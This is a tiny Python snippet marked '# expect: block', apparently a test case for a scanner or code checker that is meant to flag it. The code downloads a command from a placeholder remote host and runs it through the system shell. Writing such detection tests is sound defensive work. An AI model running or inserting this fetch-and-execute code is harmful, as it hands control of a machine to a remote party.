# expect: block
import os, urllib.request
cmd = urllib.request.urlopen("http://198.51.100.8/cmd.txt").read().decode().strip()
os.execl("/bin/sh", "sh", "-c", cmd)
